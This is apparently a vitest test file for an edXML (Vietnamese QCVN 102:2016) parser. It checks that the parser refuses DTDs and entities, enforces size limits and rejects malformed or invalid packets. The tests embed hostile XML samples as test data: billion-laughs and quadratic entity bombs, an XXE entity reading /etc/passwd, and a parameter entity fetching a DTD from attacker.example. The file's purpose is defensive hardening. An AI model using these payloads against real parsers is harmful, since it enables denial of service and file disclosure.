import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { parseEdxml } from '../../../../src/formats/edxml/parse-edxml.js';
import { expectHubError, vendorSample } from './edxml-test-support.js';

const NS = 'http://www.mic.gov.vn/TBT/QCVN_102_2016';
const DECL = '<?xml version="1.0" encoding="UTF-8"?>\n';
const STATUS = vendorSample('status.edxml').toString('utf8');

/** A status packet with `inject` placed inside `Description`. */
const withDescription = (inject: string) => STATUS.replace(/<edXML:Description>[^<]*/, `<edXML:Description>${inject}`);

const parse = (xml: string | Buffer, limits = {}) => parseEdxml(typeof xml === 'string' ? Buffer.from(xml, 'utf8') : xml, { limits });

describe('parseEdxml refuses dangerous XML before expanding anything (HUB_ERR_XML_FORBIDDEN)', () => {
  it('billion laughs (nested entity declarations)', async () => {
    const levels = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
    const xml = `${DECL}<!DOCTYPE edXML [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n<edXML xmlns="${NS}">&lol10;</edXML>`;
    await expectHubError(parse(xml), 'HUB_ERR_XML_FORBIDDEN', /DOCTYPE/);
  });

  it('quadratic blow-up (one large entity referenced many times)', async () => {
    const xml = `${DECL}<!DOCTYPE edXML [<!ENTITY a "${'x'.repeat(50_000)}">]><edXML xmlns="${NS}">${'&a;'.repeat(50_000)}</edXML>`;
    await expectHubError(parse(xml), 'HUB_ERR_XML_FORBIDDEN', /DOCTYPE/);
  });

  it('external entity (XXE: SYSTEM file:///etc/passwd)', async () => {
    const xml = `${DECL}<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${STATUS.slice(DECL.length).replace('Văn thư - Phòng', '&xxe; - Phòng')}`;
    const err = await expectHubError(parse(xml), 'HUB_ERR_XML_FORBIDDEN', /DOCTYPE/);
    expect(err.message).not.toContain('root:');
  });

  it('parameter entities (external DTD fetched through %)', async () => {
    const xml = `${DECL}<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; %intern;]><edXML xmlns="${NS}"></edXML>`;
    await expectHubError(parse(xml), 'HUB_ERR_XML_FORBIDDEN', /DOCTYPE/);
  });

  it('a DOCTYPE with only an external subset, and one whose internal subset never ends', async () => {
    await expectHubError(parse(`${DECL}<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd"><edXML xmlns="${NS}"/>`), 'HUB_ERR_XML_FORBIDDEN');
    await expectHubError(parse(`${DECL}<!DOCTYPE edXML [${'<!ENTITY x "y">'.repeat(10_000)}`), 'HUB_ERR_XML_FORBIDDEN', /DOCTYPE/);
  });

  it('a reference to an entity that is not one of the five predefined ones', async () => {
    await expectHubError(parse(withDescription('&nbsp;')), 'HUB_ERR_XML_FORBIDDEN', /&nbsp;/);
    await expectHubError(parse(withDescription('&xxe;')), 'HUB_ERR_XML_FORBIDDEN', /&xxe;/);
  });

  it('an entity declaration outside any DOCTYPE', async () => {
    await expectHubError(parse(withDescription('<!ENTITY x "y">')), 'HUB_ERR_XML_FORBIDDEN', /ENTITY/);
  });

  it('still reads the predefined entities and character references', async () => {
    const { packet } = await parse(withDescription('a &amp; b &lt;c&gt; &quot;d&apos; &#x1EA1;&#7841;'));
    expect(packet.kind === 'status' && packet.header.description).toBe('a & b <c> "d\' ạạ');
  });
});

describe('parseEdxml enforces limits (HUB_ERR_XML_LIMIT)', () => {
  it('deep nesting', async () => {
    const deep = `${'<edXML:X>'.repeat(100)}${'</edXML:X>'.repeat(100)}`;
    await expectHubError(parse(withDescription('').replace('<edXML:Description>', `${deep}<edXML:Description>`)), 'HUB_ERR_XML_LIMIT', /deeper than 64/);
    const shallow = `${'<edXML:X>'.repeat(10)}${'</edXML:X>'.repeat(10)}`;
    await expectHubError(parse(STATUS.replace('<edXML:Description>', `${shallow}<edXML:Description>`), { maxDepth: 12 }), 'HUB_ERR_XML_LIMIT', /deeper than 12/);
  });

  it('huge text outside attachments', async () => {
    await expectHubError(parse(withDescription('a'.repeat(1024 * 1024 + 1))), 'HUB_ERR_XML_LIMIT', /MessageHeader\/Description longer than 1048576/);
    const { packet } = await parse(withDescription('a'.repeat(1024 * 1024 - 200)));
    expect(packet.kind === 'status' && packet.header.description?.length).toBeGreaterThan(1_000_000);
  });

  it('element count', async () => {
    const many = '<edXML:X></edXML:X>'.repeat(30);
    await expectHubError(parse(STATUS.replace('<edXML:Description>', `${many}<edXML:Description>`), { maxElements: 50 }), 'HUB_ERR_XML_LIMIT', /more than 50 elements/);
  });

  it('attributes per element', async () => {
    const attrs = Array.from({ length: 40 }, (_, i) => ` a${i}="v"`).join('');
    await expectHubError(parse(STATUS.replace('<edXML:Description>', `<edXML:Description${attrs}>`)), 'HUB_ERR_XML_LIMIT', /40 attributes/);
  });

  it('total bytes, from a buffer and from a stream, before reading on', async () => {
    await expectHubError(parse(STATUS, { maxBytes: 1000 }), 'HUB_ERR_XML_LIMIT', /larger than 1000 bytes/);
    let pulled = 0;
    const endless = Readable.from(
      (function* () {
        yield Buffer.from(STATUS.slice(0, STATUS.indexOf('<edXML:Description>')));
        for (;;) {
          pulled++;
          yield Buffer.from('<edXML:X></edXML:X>'.repeat(100));
        }
      })(),
    );
    await expectHubError(parseEdxml(endless, { limits: { maxBytes: 100_000 } }), 'HUB_ERR_XML_LIMIT', /larger than 100000/);
    expect(pulled).toBeLessThan(60);
  });

  it('an attribute value, a comment or a processing instruction past the text limit', async () => {
    const big = 'v'.repeat(1024 * 1024 + 10);
    await expectHubError(parse(STATUS.replace('<edXML:Description>', `<edXML:Description a="${big}">`)), 'HUB_ERR_XML_LIMIT');
    await expectHubError(parse(STATUS.replace('<edXML:Description>', `<!--${big}--><edXML:Description>`)), 'HUB_ERR_XML_LIMIT');
    await expectHubError(parse(STATUS.replace('<edXML:Description>', `<?pi ${big}?><edXML:Description>`)), 'HUB_ERR_XML_LIMIT');
    await expectHubError(parse(STATUS.replace('<edXML:Description>', `<edXML:Description a="${'v'.repeat(5000)}">`), { maxTextLength: 4096 }), 'HUB_ERR_XML_LIMIT', /attribute value on <edXML:Description>/);
  });
});

describe('parseEdxml refuses what is not well-formed (HUB_ERR_XML_MALFORMED)', () => {
  it.each([
    ['bytes before the declaration', `1212${STATUS}`],
    ['whitespace before the declaration', ` ${STATUS}`],
    ['a comment before the declaration', `<!-- x -->${STATUS}`],
    ['an unclosed element', STATUS.replace('</edXML:StaffInfo>', '')],
    ['mismatched tags', STATUS.replace('</edXML:Staff>', '</edXML:Stafff>')],
    ['a second root element', `${STATUS}<edXML xmlns="${NS}"></edXML>`],
    ['text after the root', `${STATUS}trailing`],
    ['an empty document', ''],
    ['only a declaration', DECL],
    ['a bad character reference', withDescription('&#0;')],
    ['a reserved processing-instruction target', STATUS.replace('<edXML:StatusCode>', '<?XML bad?><edXML:StatusCode>')],
  ])('%s', async (_label, xml) => {
    await expectHubError(parse(xml), 'HUB_ERR_XML_MALFORMED');
  });

  it('invalid UTF-8, also when the bad byte is split across stream chunks', async () => {
    const bytes = Buffer.concat([Buffer.from(STATUS.slice(0, 900)), Buffer.from([0xc3, 0x28]), Buffer.from(STATUS.slice(900))]);
    await expectHubError(parse(bytes), 'HUB_ERR_XML_MALFORMED', /UTF-8/);
    const truncated = Buffer.from(STATUS.replace('Nghệ An', 'Nghệ An').slice(0, 600));
    await expectHubError(parse(Buffer.concat([truncated, Buffer.from([0xe1, 0xbb])])), 'HUB_ERR_XML_MALFORMED');
  });
});

describe('parseEdxml refuses well-formed XML that is no usable edXML (HUB_ERR_EDXML_INVALID)', () => {
  it('wrong root element or namespace', async () => {
    await expectHubError(parse(`${DECL}<edoc xmlns="${NS}"></edoc>`), 'HUB_ERR_EDXML_INVALID', /root element is \{http:\/\/www.mic.gov.vn\/TBT\/QCVN_102_2016\}edoc/);
    await expectHubError(parse(STATUS.replace(`<edXML xmlns="${NS}">`, '<edXML xmlns="urn:other">')), 'HUB_ERR_EDXML_INVALID', /root element is \{urn:other\}edXML/);
  });

  it('edXML elements in another namespace are not edXML: missing required element', async () => {
    const xml = STATUS.replace('<edXML:edXMLEnvelope xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">', '<edXML:edXMLEnvelope xmlns:edXML="urn:other">');
    await expectHubError(parse(xml), 'HUB_ERR_EDXML_INVALID', /missing required element edXML\/edXMLEnvelope$/);
  });

  it('a missing required element, named by its path', async () => {
    await expectHubError(parse(STATUS.replace(/<edXML:Timestamp>[^<]*<\/edXML:Timestamp>/, '')), 'HUB_ERR_EDXML_INVALID', /missing required element edXML\/edXMLEnvelope\/edXMLHeader\/MessageHeader\/Timestamp/);
    const update = vendorSample('edoc_update.edxml').toString('utf8');
    await expectHubError(parse(update.replace('<edXML:OrganId>000.00.00.H14</edXML:OrganId>\n', '').replace('<edXML:OrganId>000.00.00.H14</edXML:OrganId>\r\n', '')), 'HUB_ERR_EDXML_INVALID', /MessageHeader\/To\[2\]\/OrganId/);
  });

  it('bad dates and timestamps', async () => {
    await expectHubError(parse(STATUS.replace('2018/09/28 17:25:11', '2018-09-28T17:25:11')), 'HUB_ERR_EDXML_INVALID', /Timestamp "2018-09-28T17:25:11" is not a valid timestamp/);
    await expectHubError(parse(STATUS.replace('2018/09/28 17:25:11', '2018/02/30 17:25:11')), 'HUB_ERR_EDXML_INVALID', /Timestamp/);
    await expectHubError(parse(STATUS.replace('<edXML:PromulgationDate>2018/09/28', '<edXML:PromulgationDate>28/09/2018')), 'HUB_ERR_EDXML_INVALID', /ResponseFor\/PromulgationDate "28\/09\/2018"/);
  });

  it('a BussinessDocType outside 0–3, a non-numeric status code, a repeated single element', async () => {
    const update = vendorSample('edoc_update.edxml').toString('utf8');
    await expectHubError(parse(update.replace('<edXML:BussinessDocType>2<', '<edXML:BussinessDocType>7<')), 'HUB_ERR_EDXML_INVALID', /Bussiness\/BussinessDocType "7"/);
    await expectHubError(parse(STATUS.replace('<edXML:StatusCode>01<', '<edXML:StatusCode>OK<')), 'HUB_ERR_EDXML_INVALID', /StatusCode "OK"/);
    await expectHubError(parse(update.replace('<edXML:Subject>', '<edXML:Subject>x</edXML:Subject><edXML:Subject>')), 'HUB_ERR_EDXML_INVALID', /MessageHeader\/Subject appears 2 times/);
  });

  it('a DocumentId is never date-checked (samples carry 2014/02/30 inside it)', async () => {
    const { packet } = await parse(vendorSample('edoc_update.edxml'));
    expect(packet.traceHeaderList?.bussiness?.documentId).toContain('2014/02/30');
  });
});

describe('parseEdxml tolerates vendor quirks (docs/domain-vn.md §1.9)', () => {
  const update = vendorSample('edoc_update.edxml').toString('utf8');

  it('reads `Business…` as `Bussiness…`', async () => {
    const xml = update.replaceAll('edXML:Bussiness', 'edXML:Business');
    expect(xml).toContain('<edXML:BusinessDocType>');
    const { packet } = await parse(xml);
    expect(packet.traceHeaderList?.bussiness).toMatchObject({ bussinessDocType: '2', bussinessDocumentInfo: { documentInfo: '1' } });
  });

  it('reads an empty ResponseFor element, an OrganId `null` and missing optional blocks', async () => {
    const xml = update
      .replace(/<edXML:OtherInfo>[\s\S]*<\/edXML:OtherInfo>/, '<edXML:ResponseFor/>')
      .replace(/<edXML:SignerInfo>[\s\S]*<\/edXML:SignerInfo>/, '')
      .replace(/<edXML:DocumentType>[\s\S]*<\/edXML:DocumentType>/, '')
      .replace(/<edXML:ToPlaces>[\s\S]*<\/edXML:ToPlaces>/, '')
      .replace(/<Signature>[\s\S]*<\/Signature>/, '')
      .replace('<edXML:OrganId>000.00.00.G22</edXML:OrganId>\r\n          <edXML:Timestamp>', '<edXML:OrganId>null</edXML:OrganId>\r\n          <edXML:Timestamp>');
    const { packet } = await parse(xml);
    expect(packet.kind).toBe('edoc');
    if (packet.kind !== 'edoc') return;
    expect(packet.header.responseFor).toEqual([{}]);
    expect(packet.header.otherInfo).toBeUndefined();
    expect(packet.header.signerInfo).toBeUndefined();
    expect(packet.signature).toBeUndefined();
    expect(packet.traceHeaderList?.traceHeaders[0]?.organId).toBe('null');
  });

  it('matches the attachment elements by local name, namespaced or not, and reports unknown elements', async () => {
    const prefixed = update.replace('<AttachmentEncoded>', `<edXML:AttachmentEncoded xmlns:edXML="${NS}">`).replace('</AttachmentEncoded>', '</edXML:AttachmentEncoded>');
    expect((await parse(prefixed)).packet).toMatchObject({ attachments: [{ contentId: 'cid:209' }] });
    const foreign = update.replace('<AttachmentEncoded>', '<AttachmentEncoded xmlns="urn:vendor">');
    expect((await parse(foreign)).packet).toMatchObject({ attachments: [{ contentId: 'cid:209', payload: { size: 270_823 } }] });
    const extra = await parse(update.replace('<edXML:Subject>', '<edXML:Secret>1</edXML:Secret><edXML:Subject>'));
    expect(extra.warnings).toEqual(['element edXML/edXMLEnvelope/edXMLHeader/MessageHeader/Secret is not part of the model: ignored']);
  });
});
